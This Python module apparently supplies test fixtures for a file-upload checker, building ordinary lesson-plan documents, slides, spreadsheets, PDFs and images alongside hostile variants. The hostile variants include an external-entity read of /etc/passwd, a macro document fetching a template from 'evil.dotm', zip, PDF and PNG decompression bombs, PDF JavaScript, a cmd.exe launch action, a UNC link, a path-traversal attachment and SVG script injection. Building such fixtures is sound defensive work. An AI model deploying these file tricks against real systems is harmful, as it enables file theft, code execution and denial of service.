"""Office files, PDFs and pictures as candidates hand them in, harmless and hostile, made as bytes."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from typing import Any

import numpy as np
import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image
from pptx import Presentation
from pptx.util import Inches

RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>
"""


class Bytes:
    """A MediaSource of bytes in memory; `piece` is the most it gives at once, as a pipe or a sealed file does."""

    def __init__(self, data: bytes, piece: int = 1 << 30) -> None:
        self._data, self._piece = data, piece
        self.is_closed = False

    @property
    def size(self) -> int:
        return len(self._data)

    def read_at(self, offset: int, length: int) -> bytes:
        return self._data[offset : offset + min(length, self._piece)]

    def close(self) -> None:
        self.is_closed = True


# ---- documents ---------------------------------------------------------------------------------


def docx() -> bytes:
    """A lesson plan with a heading, a list, a table and a link."""
    document = Document()
    document.core_properties.author = "Somebody"
    document.sections[0].header.paragraphs[0].text = "Name: somebody"
    document.add_heading("Lesson plan", 0)
    document.add_heading("Questions", 2)
    document.add_paragraph("Wait three seconds\nafter each question.")
    document.add_paragraph("Who can say why?", style="List Bullet")
    table = document.add_table(2, 2)
    for cell, words in zip((c for row in table.rows for c in row.cells), ("Minute", "Act", "5", "Ask"), strict=True):
        cell.text = words
    return _saved(document)


def pptx() -> bytes:
    """Two slides; the second has a table and notes."""
    slides = Presentation()
    first = slides.slides.add_slide(slides.slide_layouts[1])
    first.shapes.title.text = "The puddle"
    frame = first.placeholders[1].text_frame
    frame.text = "What do you notice?"
    deeper = frame.add_paragraph()
    deeper.text, deeper.level = "It got smaller.", 1
    second = slides.slides.add_slide(slides.slide_layouts[6])
    table = second.shapes.add_table(1, 2, Inches(1), Inches(1), Inches(4), Inches(1)).table
    table.cell(0, 0).text, table.cell(0, 1).text = "Sun", "Shade"
    second.notes_slide.notes_text_frame.text = "Count to four."
    return _saved(slides)


def xlsx(rows: Iterable[Iterable[Any]] = (("Pupil", "Score"), ("A", 3), (None, None), ("B", 0.5))) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Exit ticket")
    for row in rows:
        sheet.append(list(row))
    return _saved(book)


def with_parts(package: bytes, parts: Mapping[str, bytes]) -> bytes:
    """The same package with these parts added or replaced."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return made.getvalue()


def part_of(package: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return archive.read(name)


def docm() -> bytes:
    """With macros, a template and a picture from elsewhere, and an embedded program."""
    plain = docx()
    types = part_of(plain, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    types = types.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office"/></Types>')
    outside = "".join(
        f'<Relationship Id="rId{number}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
        f' Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(
            (("attachedTemplate", "http://127.0.0.1:9/evil.dotm"), ("image", "file:///etc/hostname")), start=900
        )
    )
    relations = part_of(plain, "word/_rels/document.xml.rels").replace(
        b"</Relationships>", outside.encode() + b"</Relationships>"
    )
    return with_parts(
        plain,
        {
            "[Content_Types].xml": types,
            "word/_rels/document.xml.rels": relations,
            "word/vbaProject.bin": b"Sub AutoOpen()",
            "word/embeddings/oleObject1.bin": b"MZ",
        },
    )


def docx_with_entities() -> bytes:
    plain = docx()
    body = part_of(plain, "word/document.xml")
    words = body[body.index(b"?>") + 2 :].replace(b"Questions", b"&b;&c;")
    return with_parts(plain, {"word/document.xml": ENTITIES + words})


def zip_bomb(megabytes: int = 300) -> bytes:
    """A docx of some hundred KB whose text unfolds to more than that many MB."""
    return with_parts(docx(), {"word/document.xml": b"<?xml version='1.0'?><w>" + bytes(megabytes << 20)})


def old_office(*, is_locked: bool = False) -> bytes:
    """The container of .doc, .xls and .ppt, which password-protected new files have too."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") * is_locked


def _saved(document: Any) -> bytes:
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


# ---- PDF ---------------------------------------------------------------------------------------


def pdf(pages: int = 1, size: tuple[float, float] = (595, 842), **around: Any) -> bytes:
    """`around` goes into the catalogue: OpenAction, Names, ..."""
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page(page_size=(100, 100)).mediabox = pikepdf.Array([0, 0, *size])
        for key, value in around.items():
            made.Root[f"/{key}"] = value
        return _pdf_bytes(made)


def locked_pdf() -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as made:
        encryption = pikepdf.Encryption(user="secret", owner="secret")
        target = io.BytesIO()
        made.save(target, encryption=encryption)
        return target.getvalue()


def busy_pdf() -> bytes:
    """Asks for a script and a program to be run, another file to be opened, and carries a file."""
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        away = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\server\\share\\x.pdf"))
        made.Root.AA = pikepdf.Dictionary(WC=launch, WS=away)
        made.attachments["../../x.exe"] = b"MZ"
        return _pdf_bytes(made)


def pdf_with_stream(packed: bytes, filters: int = 1, **about: Any) -> bytes:
    """A page that shows a stream as it is given: `packed` is deflated `filters` times."""
    with pikepdf.open(io.BytesIO(pdf())) as made:
        names = pikepdf.Array([pikepdf.Name.FlateDecode] * filters)
        stream = pikepdf.Stream(made, b"")
        stream.write(packed, filter=names)
        for key, value in about.items():
            stream[f"/{key}"] = value
        made.pages[0].obj.Contents = made.make_indirect(stream)
        target = io.BytesIO()
        made.save(target, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
        return target.getvalue()


def nested_pdf(depth: int = 9, times: int = 10) -> bytes:
    """A page of drawings that each draw the next one `times` times: some KB that draw `times` ** `depth` times."""
    with pikepdf.open(io.BytesIO(pdf())) as made:
        inner = None
        for _ in range(depth):
            form = pikepdf.Stream(made, b"0 0 1 1 re f" if inner is None else b"/F Do " * times)
            form.Type, form.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
            form.BBox = pikepdf.Array([0, 0, 100, 100])
            if inner is not None:
                form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=inner))
            inner = made.make_indirect(form)
        page = made.pages[0].obj
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=inner))
        page.Contents = pikepdf.Stream(made, b"/F Do " * times)
        return _pdf_bytes(made)


def deflated(megabytes: int, times: int = 1) -> bytes:
    """That many MB of spaces, deflated."""
    press = zlib.compressobj(9)
    data = b"".join(press.compress(b" " * (1 << 20)) for _ in range(megabytes)) + press.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def _pdf_bytes(made: pikepdf.Pdf) -> bytes:
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


# ---- pictures ----------------------------------------------------------------------------------


def picture(
    kind: str = "PNG",
    size: tuple[int, int] = (40, 30),
    mode: str = "RGB",
    colours: tuple[str, str] = ("red", "blue"),
    **more: Any,
) -> bytes:
    """The left half in the first colour, the rest in the second."""
    image = Image.new("RGB", size, colours[1])
    image.paste(colours[0], (0, 0, size[0] // 2, size[1]))
    if mode == "I;16":
        image = Image.fromarray(np.asarray(image.convert("L")).astype(np.uint16) * 257)
    made = io.BytesIO()
    (image if image.mode == mode else image.convert(mode)).save(made, kind, **more)
    return made.getvalue()


def phone_photograph() -> bytes:
    """Lying on its side, with the place where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0)})
    return picture("JPEG", exif=exif)


def vast_png(side: int = 30_000) -> bytes:
    """A real PNG of `side` x `side` pixels, one bit each, in some hundred KB."""
    press = zlib.compressobj(9)
    row = bytes(1 + (side + 7) // 8)
    pixels = b"".join(press.compress(row * 100) for _ in range(side // 100)) + press.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def moving_gif() -> bytes:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    made = io.BytesIO()
    frames[0].save(made, "GIF", save_all=True, append_images=frames[1:], duration=100)
    return made.getvalue()


PICTURE = pikepdf.Name.Image
SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
<image xlink:href="file:///etc/hostname" width="10" height="10"/><script>alert(1)</script></svg>"""


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
